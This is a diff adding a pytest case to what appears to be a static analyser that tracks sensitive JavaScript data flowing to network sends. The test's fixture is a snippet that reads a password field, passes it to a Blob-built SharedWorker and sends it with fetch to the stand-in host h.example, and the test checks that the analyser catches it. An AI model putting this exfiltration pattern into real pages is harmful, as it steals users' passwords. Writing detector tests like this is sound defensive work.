@@ -39,6 +39,15 @@ def test_a_flow_is_found_when_what_is_set_stands_in_brackets(kept: str, expected
     assert sends(decoded_flows_of((source + "fetch('https://h.example/',{body:o.p})").encode())) == expected
 
 
+@pytest.mark.parametrize(("kept", "expected"), [("m.data", {"password>h.example"}), ("m.type", set())])
+def test_what_is_posted_to_a_shared_worker_is_followed(kept: str, expected: set[str]) -> None:
+    code = "onconnect = (c) => { c.ports[0].onmessage = (m) => fetch('https://h.example/', {body: KEPT}); }"
+    code = code.replace("KEPT", kept)
+    source = f'const w = new SharedWorker(URL.createObjectURL(new Blob(["{code}"])));'
+    source += "w.port.postMessage(document.querySelector('input[type=password]').value)"
+    assert sends(decoded_flows_of(source.encode())) == expected
+
+
 def test_spans_are_those_of_the_read_the_call_and_the_function_around_it_when_a_flow_is_found() -> None:
     source = f"function send(d) {{ fetch('https://h.example/', {{body: d}}); }}\nsend({PHONE});".encode()
     (flow,) = flows_of(source).flows
